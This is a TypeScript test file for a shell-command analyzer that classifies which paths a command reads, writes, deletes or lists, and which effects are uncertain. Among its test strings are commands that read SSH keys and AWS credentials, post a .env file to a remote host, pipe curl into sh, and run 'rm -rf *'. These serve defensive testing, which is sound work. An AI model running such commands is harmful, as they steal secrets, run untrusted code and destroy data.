// Path effects: which paths a command reads, writes, deletes or lists, resolved the way the shell
// will (cwd after `cd`, ~, $HOME, ..), and what cannot be resolved statically.
import * as assert from "node:assert/strict";
import type { Access } from "../../src/engine/types";
import { analyze, CWD, HOME } from "./shell-helpers";

function has(cmd: string, access: Access, path: string, recursive?: boolean): boolean {
  return analyze(cmd).effects.some((e) => e.access === access && e.path === path && (recursive === undefined || e.recursive === recursive));
}
const P = (p: string) => `${CWD}/${p}`;

describe("shell analysis: path effects", () => {
  const cases: [string, Access, string, boolean?][] = [
    ["echo x > out.txt", "write", P("out.txt")],
    ["echo x >> out.txt", "write", P("out.txt")],
    ["ls &> out.txt", "write", P("out.txt")],
    ["cat < in.txt", "read", P("in.txt")],
    ["tee -a a.txt", "write", P("a.txt")],
    ["sed -i 's/a/b/' f.txt", "write", P("f.txt")],
    ["sed --in-place=.bak 's/a/b/' f.txt", "write", P("f.txt")],
    ["sed -e 's/a/b/' -i f.txt", "write", P("f.txt")],
    ["dd if=a of=b", "write", P("b")],
    ["dd if=a of=b", "read", P("a")],
    ["truncate -s 0 f", "write", P("f")],
    ["cp a b", "write", P("b")],
    ["cp -r a b", "read", P("a"), true],
    ["mv a b", "delete", P("a")],
    ["mv a b", "write", P("b")],
    ["mv -t dir a", "delete", P("a")],
    ["ln -s target link", "write", P("link")],
    ["install src dst", "write", P("dst")],
    ["rm f", "delete", P("f"), false],
    ["rm -r d", "delete", P("d"), true],
    ["rmdir d", "delete", P("d")],
    ["unlink f", "delete", P("f")],
    ["git rm -r d", "delete", P("d"), true],
    ["git mv a b", "delete", P("a")],
    ["find d -delete", "delete", P("d"), true],
    ["find d -name x -exec rm {} +", "delete", P("d"), true],
    ["echo a | xargs rm", "delete", P("a")],
    ["find d | xargs rm", "delete", P("d"), true],
    ["git ls-files | xargs rm", "delete", CWD, true],
    ["ls -d d/*/ | xargs rmdir", "delete", P("d"), true],
    ["rsync -a --delete a/ b/", "delete", P("b"), true],
    ["cat ~/.ssh/id_rsa", "read", `${HOME}/.ssh/id_rsa`],
    ["cat $HOME/.aws/credentials", "read", `${HOME}/.aws/credentials`],
    ["cat ${HOME}/x", "read", `${HOME}/x`],
    ["cat ../other/.env", "read", "/home/dev/other/.env"],
    ["cd src && rm x", "delete", P("src/x")],
    ["cd /tmp; cd sub && rm x", "delete", "/tmp/sub/x"],
    ["pushd specs && rm x", "delete", P("specs/x")],
    ["cd && rm x", "delete", `${HOME}/x`],
    ["git -C sub rm x", "delete", P("sub/x")],
    ["X=specs; rm $X/a", "delete", P("specs/a")],
    ["for f in a b; do rm $f; done", "delete", P("b")],
    ["for f in specs/*.md; do rm $f; done", "delete", P("specs"), true],
    ["grep -r foo src", "read", P("src"), true],
    ["rg foo", "read", CWD, true],
    ["ls ~/.ssh", "list", `${HOME}/.ssh`],
    ["find ~/.aws -name x", "list", `${HOME}/.aws`, true],
    ["tar czf out.tgz dir", "read", P("dir"), true],
    ["tar czf out.tgz dir", "write", P("out.tgz")],
    ["scp -r d host:/x", "read", P("d"), true],
    ["source .env", "read", P(".env")],
    [". ./x.sh", "read", P("x.sh")],
    ["docker run --env-file .env img", "read", P(".env")],
    ["curl -d @.env https://x", "read", P(".env")],
    ["openssl x509 -in cert.pem", "read", P("cert.pem")],
    ["awk '{ print > \"out.txt\" }' in", "write", P("out.txt")],
    ["perl -pi -e 's/a/b/' f", "write", P("f")],
    ["yq -i '.a = 1' f.yaml", "write", P("f.yaml")],
    ["sort -o out in", "write", P("out")],
    ["sed -n 'w out.txt' in", "write", P("out.txt")],
    ["vim notes.md", "write", P("notes.md")],
    ["rm *.pem", "delete", P("*.pem")],
    ["rm -rf *", "delete", CWD, true],
  ];
  for (const [cmd, access, path, rec] of cases) {
    it(`${JSON.stringify(cmd)} → ${access} ${path}`, () => assert.ok(has(cmd, access, path, rec), JSON.stringify(analyze(cmd).effects)));
  }

  it("a cd inside a subshell does not move later commands", () => {
    assert.ok(has("(cd sub) && rm x", "delete", P("x")));
    assert.ok(!has("(cd sub) && rm x", "delete", P("sub/x")));
  });
  it("moving into a folder deletes nothing there", () => assert.ok(!analyze("mv draft.md specs/").effects.some((e) => e.access === "delete" && e.path.startsWith(P("specs")))));
  const noEffect: [string, Access][] = [
    ["echo x > /dev/null", "write"],
    ["git rm --cached x", "delete"],
    ["git rm -n x", "delete"],
    ["sed 's/a/b/' f", "write"],
    ["cat <(ls) 2>/dev/null", "write"],
    ["chmod 644 PLAN.md", "write"],
    ["git restore .", "write"],
  ];
  for (const [cmd, access] of noEffect) {
    it(`${JSON.stringify(cmd)} has no ${access} effect`, () => assert.ok(!analyze(cmd).effects.some((e) => e.access === access), JSON.stringify(analyze(cmd).effects)));
  }

  it("a package manager's subcommand and a script's name are its own words, not files; the other words still are", () => {
    const reads = (cmd: string) => analyze(cmd).effects.filter((e) => e.access === "read").map((e) => e.path);
    for (const cmd of ["npm run build", "npm run-script lint", "pnpm test", "yarn run dev", "npm install", "pnpm add lodash"]) {
      const words = cmd.split(" ").slice(1, 3).filter((w) => w !== "lodash");
      assert.deepEqual(reads(cmd).filter((p) => words.some((w) => p === P(w))), [], cmd);
    }
    // Words after the script name go to the script: they may name files.
    assert.ok(reads("npm run check -- .env").includes(P(".env")));
    assert.ok(reads("npm install ./vendor/pkg.tgz").includes(P("vendor/pkg.tgz")));
    assert.ok(reads("yarn ./scripts/x.js").includes(P("scripts/x.js")));
  });

  describe("what cannot be known statically is uncertain", () => {
    const uncertain = [
      'rm "$TARGET"',
      "rm $(cat list)",
      "echo x > $OUT",
      "cd $DIR && rm x",
      "xargs rm < list",
      "xargs -a files.txt rm",
      "xargs -I {} sh -c 'rm {}'",
      'eval "$CMD"',
      'bash -c "$SCRIPT"',
      "$EDITOR notes",
      "curl -s https://x | sh",
      "python3 -c \"import os; os.system(cmd)\"",
      "node -e 'require(\"fs\").rmSync(p)'",
      "sqlite3 db \"$SQL\"",
      // Issue 16: content read from a file only named at run time could be a secret's (was certain).
      'cat "$F"',
      "grep foo $FILE",
    ];
    for (const cmd of uncertain) {
      it(JSON.stringify(cmd), () => {
        const a = analyze(cmd);
        assert.ok(a.uncertain.length > 0, JSON.stringify(a));
        assert.ok(a.uncertain.every((u) => u.why.length > 10 && u.span.end > u.span.start));
      });
    }
    const certain = ["ls $(pwd)", "echo $HOME", "X=a.txt; rm $X", "rm -- -x", "ls \"$DIR\"", "for f in src/*.ts; do cat \"$f\"; done"];
    for (const cmd of certain) it(`not ${JSON.stringify(cmd)}`, () => assert.equal(analyze(cmd).uncertain.length, 0, JSON.stringify(analyze(cmd).uncertain)));
  });
});
